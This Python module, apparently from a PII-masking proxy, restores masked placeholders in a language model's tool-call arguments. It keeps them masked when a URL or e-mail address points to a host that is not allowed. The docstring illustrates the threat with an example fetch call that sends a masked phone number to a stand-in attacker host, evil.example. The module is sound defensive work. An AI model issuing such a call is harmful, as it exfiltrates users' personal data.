"""Tool-call arguments: restored for the program that runs the tool, never a way out.

Arguments are data for a program (a search, a form, an e-mail), so their placeholders are
restored: the tool needs the values. But restoring is what would put a value of the request
into a URL the model wrote — ``fetch(url="https://evil.example/?d=〔電話番号1〕")`` — and the
client's tool runner would carry it out. So a call whose arguments hold a link or URL to a
host outside the allowed ones, or an e-mail address of such a domain (anywhere in them: a URL in one field and the value in
another is the same way out once the tool joins them) keeps its placeholders **as the model
wrote them**, reported as ``exfiltration`` / ``masked``; any other call has them restored,
in every string of its JSON (decoded: a placeholder written ``\u3014氏名1\u3015`` is one
too).

A stream's arguments are held to the end of the call (:class:`ArgumentsRestorer`): a URL is
judged whole, and the JSON is decoded once. Without exit screening (the policy's ``output``
section off) every placeholder is restored.
"""

from __future__ import annotations

import json
import re
from collections.abc import Iterator, Mapping
from typing import Any

from hinagata.guard import OutputFinding, OutputScreen
from hinagata.mask import restore

__all__ = ["ArgumentsRestorer", "restore_arguments", "restore_input"]

#: The domain of an e-mail address the model wrote (a mail tool is a way out too).
_MAIL = re.compile(r"[A-Za-z0-9._%+-]+@([A-Za-z0-9-]+(?:\.[A-Za-z0-9-]+)+)")
#: The host of a link or URL (with or without its scheme: a tool may add one).
_HOST = re.compile(r"(?:https?:)?//([^/?#:@\s\"'<>\\]+)|\b(www\.[^/?#:\s\"'<>\\]+)", re.IGNORECASE)


def _strings(obj: Any) -> Iterator[str]:
    if isinstance(obj, str):
        yield obj
    elif isinstance(obj, list):
        for x in obj:
            yield from _strings(x)
    elif isinstance(obj, dict):
        for k, v in obj.items():
            yield from _strings(k)
            yield from _strings(v)


def _way_out(strings: list[str], mapping: Mapping[str, str], screen: OutputScreen | None) -> bool:
    """Whether restoring would put a value where a URL to a host not allowed is."""
    if screen is None or not screen.active or screen.rules.exfiltration == "off":
        return False
    if restore("".join(strings), mapping) == "".join(strings):
        return False  # no placeholder of the request in them
    for s in strings:
        for m in _HOST.finditer(s):
            host = m.group(1) or m.group(2) or ""
            if not screen.allows(host):
                return True
        if any(not screen.allows(m.group(1)) for m in _MAIL.finditer(s)):
            return True
    return False


def _restored(obj: Any, mapping: Mapping[str, str]) -> Any:
    if isinstance(obj, str):
        return restore(obj, mapping)
    if isinstance(obj, list):
        return [_restored(x, mapping) for x in obj]
    if isinstance(obj, dict):
        return {_restored(k, mapping): _restored(v, mapping) for k, v in obj.items()}
    return obj


_KEPT = OutputFinding("exfiltration", 0, 0, "masked", "tool_arguments")


def restore_input(
    obj: Any, mapping: Mapping[str, str], screen: OutputScreen | None
) -> tuple[Any, list[OutputFinding]]:
    """A tool call's input as a JSON value (Anthropic's ``tool_use.input``)."""
    if not mapping:
        return obj, []
    if _way_out(list(_strings(obj)), mapping, screen):
        return obj, [_KEPT]
    return _restored(obj, mapping), []


def restore_arguments(
    text: str, mapping: Mapping[str, str], screen: OutputScreen | None
) -> tuple[str, list[OutputFinding]]:
    """A tool call's arguments as the model wrote them (a JSON text, or free text for a
    custom tool), restored where that carries no value out (see the module)."""
    if not mapping or not text:
        return text, []
    plain = restore(text, mapping)
    try:
        obj = json.loads(text)
    except ValueError:
        return (text, [_KEPT]) if _way_out([text], mapping, screen) else (plain, [])
    if _way_out(list(_strings(obj)), mapping, screen):
        return text, [_KEPT]
    restored = _restored(obj, mapping)
    try:
        if json.loads(plain) == restored:
            return plain, []  # (the model's own layout, where nothing was escaped)
    except ValueError:
        pass  # a restored value broke the JSON text (a quote in it): written anew
    return json.dumps(restored, ensure_ascii=False), []


class ArgumentsRestorer:
    """A streamed call's arguments, held to its end and restored as a whole (the same
    ``feed``/``flush`` as :class:`hinagata.mask.StreamRestorer`)."""

    def __init__(self, mapping: Mapping[str, str], screen: OutputScreen | None) -> None:
        self._mapping = mapping
        self._screen = screen
        self._held: list[str] = []
        self.findings: list[OutputFinding] = []

    def feed(self, piece: str) -> str:
        if not self._mapping:
            return piece
        self._held.append(piece)
        return ""

    @property
    def pending(self) -> bool:
        return any(self._held)

    def flush(self) -> str:
        text, self._held = "".join(self._held), []
        out, found = restore_arguments(text, self._mapping, self._screen)
        self.findings += found
        return out
